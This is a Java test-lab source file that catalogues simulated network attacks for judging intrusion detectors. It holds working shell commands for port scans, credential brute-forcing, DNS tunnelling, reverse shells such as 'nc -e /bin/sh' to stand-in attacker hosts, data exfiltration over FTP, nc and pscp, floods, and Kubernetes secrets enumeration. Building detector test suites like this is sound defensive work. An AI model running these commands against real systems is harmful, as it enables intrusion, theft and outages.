package dev.weir.standalone.lab;

import static dev.weir.standalone.lab.AttackScripts.SINK;
import static dev.weir.standalone.lab.AttackScripts.WORDS;
import static dev.weir.standalone.lab.AttackScripts.dnsEnd;
import static dev.weir.standalone.lab.AttackScripts.httpEnd;
import static dev.weir.standalone.lab.AttackScripts.repeated;
import static dev.weir.standalone.lab.AttackScripts.sshEnd;
import static dev.weir.standalone.lab.AttackScripts.tlsEnd;
import static dev.weir.standalone.lab.AttackScripts.typed;
import static dev.weir.standalone.lab.LabHost.API;
import static dev.weir.standalone.lab.LabHost.BACKUP;
import static dev.weir.standalone.lab.LabHost.BROKER;
import static dev.weir.standalone.lab.LabHost.CACHE;
import static dev.weir.standalone.lab.LabHost.CI;
import static dev.weir.standalone.lab.LabHost.EVILA;
import static dev.weir.standalone.lab.LabHost.EVILB;
import static dev.weir.standalone.lab.LabHost.JOB;
import static dev.weir.standalone.lab.LabHost.NEW;
import static dev.weir.standalone.lab.LabHost.OPS;
import static dev.weir.standalone.lab.LabHost.ORDERS;
import static dev.weir.standalone.lab.LabHost.SCANNER;
import static dev.weir.standalone.lab.LabHost.SENSOR;
import static dev.weir.standalone.lab.LabHost.USERA;
import static dev.weir.standalone.lab.LabHost.USERC;
import static dev.weir.standalone.lab.LabHost.WEB;
import static dev.weir.standalone.lab.LabHost.WEBB;

import dev.weir.standalone.lab.LabAttack.Listener;

/** The second attacks by which detectors were judged before they were tuned on them. */
final class SecondJudgingAttacks extends AttackCatalogue {
    private static final String NEIGHBOUR = """
            ping -n -c 1 -W 0.2 %1$s >/dev/null; mac=$(ip neigh show %1$s | sed 's/.*lladdr \\([^ ]*\\).*/\\1/')
            """;

    /** A label of a name, of 48 characters that carry data. */
    private static final String LABEL = "$(head -c 30 /dev/urandom | base32 -w 0)";

    /** The fingerprint of every SSH server's key, which PuTTY's tools ask for. */
    private static final String FINGERPRINT = "key=$(ssh-keygen -lf $FOLDER/host_key.pub | cut -d ' ' -f 2)\n";

    SecondJudgingAttacks() {
        super(false);
    }

    @Override
    void scans() {
        add("scan-zmap", "zmap", ORDERS, 1, NEIGHBOUR.formatted("10.60.8.1") + """
                zmap -q -i eth0 -G $mac -p 6379 -r 150 -c 1 -b /dev/null -o /dev/null 10.60.8.0/25
                """);
        add("scan-nping-outside", "nping", SCANNER, 2, "nping --tcp-connect -p 1-120 -c 1 --rate 20 $ORDERS");
        add("scan-mausezahn-fin", "mausezahn", NEW, 1, NEIGHBOUR.formatted("$API") + """
                mausezahn eth0 -q -b $mac -A $NEW -B $API -t tcp "sp=40000,dp=20-110,flags=fin" -d 10m
                """);
        add("scan-nc-openbsd", "nc.openbsd", WEBB, 1, "nc.openbsd -n -z -w 1 $DB 1-200");
        add(
                "scan-nc-traditional-slow",
                "nc.traditional",
                OPS,
                600,
                "nc.traditional -n -z -r -i 1 -w 1 $BROKER 8000-8047");
        add("scan-busybox-horizontal", "busybox", CI, 10, """
                for i in $(seq 64); do timeout 0.4 busybox nc 10.60.8.$i 6443 </dev/null; done
                """);
        add("scan-ike", "ike-scan", API, 1, "ike-scan --nodns -r 1 -i 50 10.60.7.0/26");
        add("scan-ping-day", "ping", WEB, 900, """
                for i in $(seq 2 51); do ping -n -q -c 1 -W 0.2 10.60.8.$i; sleep 0.6; done
                """);
        add("scan-oping-outside", "oping", EVILB, 5, "oping -c 2 -w 0.5 10.60.8.{1..50} $WEB $WEBB $API $DB");
    }

    @Override
    void webScans() {
        add("http-recon-dirsearch", "dirsearch", SCANNER, 1, WORDS.formatted(300) + """
                PATH=/usr/bin:/bin HOME=$FOLDER timeout 45 \\
                  dirsearch -q -t 4 -e php -w $FOLDER/words-$$ -o $FOLDER/found-$$ -u http://$API:8080/
                """);
        add("http-recon-sqlmap", "sqlmap", JOB, 2, """
                timeout 45 sqlmap --batch --level=2 --output-dir=$FOLDER/sqlmap-$$ -u "http://$WEBB/items/3?sort=1"
                """);
        add("http-recon-aria2", "aria2c", CI, 1, WORDS.formatted(250) + """
                sed "s#.*#http://$WEB:8080/&.zip#" $FOLDER/words-$$ > $FOLDER/urls-$$
                timeout 45 aria2c -q --no-conf --dry-run -j 2 -m 1 -i $FOLDER/urls-$$
                """);
        add("http-recon-lynx-slow", "lynx", USERA, 30, """
                for i in $(seq 100); do lynx -dump http://$WEB/old-$i/index.php >/dev/null; sleep 0.3; done
                """);
    }

    @Override
    void logins() {
        add("bruteforce-plink-ssh", "plink", EVILA, 2, FINGERPRINT + """
                for i in $(seq 60); do timeout 5 plink -batch -ssh -hostkey $key -pw guess$i root@$WEBB true; done
                """);
        add("bruteforce-dbclient-ssh-slow", "dbclient", CI, 30, """
                for i in $(seq 45); do
                  DROPBEAR_PASSWORD=guess$i timeout 5 dbclient -y -y root@$BASTION true </dev/null; sleep 0.4
                done
                """);
        add(
                "bruteforce-redis-auth",
                "redis-cli",
                SENSOR,
                2,
                "for i in $(seq 120); do redis-cli -h $CACHE --user backup --pass key$i --no-auth-warning ping; sleep 0.1; done",
                new Listener(
                        CACHE, "redis-cli -h $CACHE acl setuser backup on '>none-guesses-it' '~*' +@all; sleep 60"));
        add("bruteforce-createuser-postgres", "createuser", WEBB, 20, """
                for i in $(seq 60); do PGPASSWORD=pass$i createuser -w -h $DB -U replica x$i; sleep 0.3; done
                """);
        add(
                "bruteforce-mosquitto",
                "mosquitto_pub",
                EVILB,
                1,
                "for i in $(seq 150); do mosquitto_pub -h $BROKER -p 1884 -u admin -P pass$i -t x -m x; done",
                new Listener(BROKER, """
                        mosquitto_passwd -b -c $FOLDER/broker.pw admin none-guesses-it
                        printf 'listener 1884 %s\\nallow_anonymous false\\npassword_file %s/broker.pw\\nuser root\\n' \\
                          $BROKER $FOLDER > $FOLDER/guarded.conf
                        exec mosquitto -c $FOLDER/guarded.conf
                        """));
        add("bruteforce-busybox-http", "busybox", SENSOR, 10, """
                for i in $(seq 90); do busybox wget -q -O /dev/null http://admin:guess$i@$WEBB/admin/; sleep 0.25; done
                """);
    }

    @Override
    void tunnels() {
        add(
                "dns-tunnel-kdig",
                "kdig",
                JOB,
                20,
                repeated(110, "kdig +short +retry=0 +timeout=1 @$DNS A " + LABEL + ".$i.tunnel.example", 100, 50),
                dnsEnd(EVILA, "tunnel.example", "10.66.66.66"));
        add(
                "dns-tunnel-drill-direct",
                "drill",
                WEBB,
                10,
                repeated(120, "drill @$EVILB " + LABEL + "." + LABEL + ".relay.example AAAA", 80, 20),
                dnsEnd(EVILB, "relay.example", "fd66::66"));
        add(
                "dns-tunnel-busybox-slow",
                "busybox",
                API,
                90,
                repeated(70, "busybox nslookup -type=txt " + LABEL + ".c$i.tunnel.example $DNS", 450, 20),
                dnsEnd(EVILA, "tunnel.example", "10.66.66.66"));
    }

    @Override
    void channels() {
        add(
                "c2-nc-traditional-shell",
                "nc.traditional",
                ORDERS,
                25,
                "timeout 45 nc.traditional -n $EVILB 53 -e /bin/sh",
                new Listener(EVILB, typed(20, "ps; ls /etc") + " | nc.traditional -n -l -s $EVILB -p 53 -q 1"));
        add(
                "c2-httptunnel-shell",
                "htc",
                JOB,
                20,
                """
                htc -w -F 2222 $EVILA:80 & sleep 1
                timeout 45 socat tcp:127.0.0.1:2222 exec:/bin/sh
                kill %1
                """,
                new Listener(
                        EVILA,
                        "hts -w -F 127.0.0.1:7777 80 &\n" + typed(20, "id; cat /proc/meminfo")
                                + " | ncat -l 127.0.0.1 7777; kill %1"));
        add(
                "c2-busybox-beacon-even",
                "busybox",
                ORDERS,
                60,
                repeated(70, "busybox wget -q -O /dev/null http://$EVILB:8080/in", 600, 0),
                httpEnd(EVILB, 8_080));
        add(
                "c2-gnutls-beacon",
                "gnutls-cli",
                WEB,
                60,
                repeated(60, "echo $RANDOM | timeout 1 gnutls-cli --insecure -p 443 $EVILA", 500, 20),
                tlsEnd(EVILA, 443));
        add(
                "c2-lftp-jitter",
                "lftp",
                CI,
                60,
                repeated(
                        60,
                        "lftp -c 'set ssl:verify-certificate no; set net:max-retries 1; set net:timeout 2; cat"
                                + " https://'$EVILB':8443/c'",
                        600,
                        50),
                new Listener(
                        EVILB,
                        "exec ncat --ssl --ssl-cert $FOLDER/tls.crt --ssl-key $FOLDER/tls.key -lk $EVILB 8443 -c"
                                + " 'read line; printf \"HTTP/1.0 200 OK\\r\\nContent-Length: 4\\r\\n\\r\\nnone\"'"));
        add(
                "c2-inside-redis",
                "redis-cli",
                WEBB,
                60,
                repeated(70, "redis-cli -h $NEW lpop tasks", 550, 30),
                new Listener(NEW, "exec redis-server --bind $NEW --protected-mode no --save '' --dir $FOLDER"));
        add(
                "c2-dead-mosquitto",
                "mosquitto_pub",
                SENSOR,
                40,
                repeated(90, "mosquitto_pub -h $EVILA -p 8883 -t c -m up", 400, 20));
        add(
                "c2-dead-nc-openbsd",
                "nc.openbsd",
                API,
                60,
                repeated(60, "timeout 0.3 nc.openbsd -n -z 10.60.8.99 8443", 400, 40));
        add(
                "c2-ptunnel-shell",
                "ptunnel-ng",
                WEBB,
                30,
                """
                ptunnel-ng -p$EVILB -l2224 -r127.0.0.1 -R7779 & sleep 1
                timeout 45 socat tcp:127.0.0.1:2224 exec:/bin/sh
                kill %1
                """,
                new Listener(
                        EVILB,
                        "ptunnel-ng -r127.0.0.1 -R7779 &\n" + typed(20, "id; ps ax")
                                + " | ncat -l 127.0.0.1 7779; kill %1"));
        add("c2-stunnel-lasting", "stunnel4", BACKUP, 60, """
                printf 'foreground = yes\\npid =\\n[c]\\nclient = yes\\naccept = 127.0.0.1:2223\\nconnect = %s:443\\n' $EVILB \\
                  > $FOLDER/stunnel-$$
                stunnel4 $FOLDER/stunnel-$$ & sleep 1
                (for i in $(seq 40); do echo report $RANDOM; sleep 1; done) | timeout 45 nc.openbsd -N 127.0.0.1 2223
                kill %1
                """, new Listener(EVILB, """
                        printf 'foreground = yes\\npid =\\n[s]\\naccept = %s:443\\n' $EVILB > $FOLDER/end
                        printf 'connect = 127.0.0.1:7778\\ncert = %s/tls.crt\\nkey = %s/tls.key\\n' $FOLDER $FOLDER >> $FOLDER/end
                        socat tcp-listen:7778,bind=127.0.0.1,fork,reuseaddr exec:cat &
                        exec stunnel4 $FOLDER/end
                        """));
    }

    @Override
    void transfers() {
        add("exfil-busybox-ftp", "busybox", CI, 1, """
                head -c 60000000 /dev/urandom > $FOLDER/archive-$$
                busybox ftpput -u ftp -p x $EVILA in/archive $FOLDER/archive-$$
                """, new Listener(EVILA, """
                        mkdir -p $FOLDER/ftp/in $FOLDER/empty && chown ftp $FOLDER/ftp/in
                        printf '%s\\n' listen=YES listen_ipv6=NO anonymous_enable=YES write_enable=YES anon_upload_enable=YES \\
                          anon_root=$FOLDER/ftp secure_chroot_dir=$FOLDER/empty listen_address=$EVILA seccomp_sandbox=NO \\
                          background=NO > $FOLDER/vsftpd.conf
                        exec vsftpd $FOLDER/vsftpd.conf
                        """));
        add(
                "exfil-nc-openbsd-drip",
                "nc.openbsd",
                WEB,
                90,
                repeated(45, "head -c 1500000 /dev/urandom | timeout 2 nc.openbsd -n -N $EVILA 443", 600, 20),
                new Listener(EVILA, SINK.formatted(443)));
        add(
                "exfil-pscp-drip",
                "pscp",
                ORDERS,
                100,
                FINGERPRINT + """
                puttygen $FOLDER/key -O private -o $FOLDER/ppk-$$
                head -c 1500000 /dev/urandom > $FOLDER/part-$$
                """
                        + repeated(
                                40,
                                "timeout 4 pscp -q -batch -hostkey $key -i $FOLDER/ppk-$$ $FOLDER/part-$$"
                                        + " root@$EVILB:$FOLDER/taken",
                                500,
                                30),
                sshEnd(EVILB));
        add("exfil-pgdumpall", "pg_dumpall", SENSOR, 1, """
                for i in 1 2 3; do pg_dumpall -h $DB -U postgres >/dev/null; done
                """);
        add("exfil-nping-icmp", "nping", JOB, 1, "nping -q --icmp --data-length 1400 -c 12000 --rate 1000 $EVILB");
    }

    @Override
    void floods() {
        add("ddos-h2load", "h2load", USERC, 1, "h2load --h1 -D 6 --rps 10 -c 100 -t 1 http://$WEBB/index.html");
        add("ddos-mausezahn-syn", "mausezahn", EVILA, 1, NEIGHBOUR.formatted("$WEBB") + """
                mausezahn eth0 -q -b $mac -A $EVILA -B $WEBB -t tcp "sp=2000-9999,dp=443,flags=syn" -d 500
                """);
        add("ddos-iperf-udp", "iperf", NEW, 1, "timeout 20 iperf -u -c $BROKER -p 5683 -b 20M -l 1000 -t 6");
    }

    @Override
    void lateral() {
        add("lateral-pssh", "parallel-ssh", JOB, 20, """
                parallel-ssh -p 2 -t 9 -x "$SSH" -H "root@$API root@$ORDERS root@$WEBB root@$BASTION" 'id; sleep 4; uname -a'
                """);
        add("lateral-clush", "clush", SENSOR, 20, """
                for h in $WEBB $API $BASTION $ORDERS; do
                  clush -l root -o "$SSH" -w $h --copy $FOLDER/tls.crt --dest /dev/null
                  clush -l root -o "$SSH" -w $h 'for i in 1 2 3; do ps ax; sleep 1; done'
                done
                """);
        add("lateral-pod-to-apiserver-httpie", "http", CI, 10, """
                for kind in secrets pods nodes configmaps services endpoints events namespaces serviceaccounts; do
                  http --ignore-stdin --verify=no --timeout 2 https://$KAPI:6443/api/v1/$kind; sleep 0.5
                done
                """);
    }
}
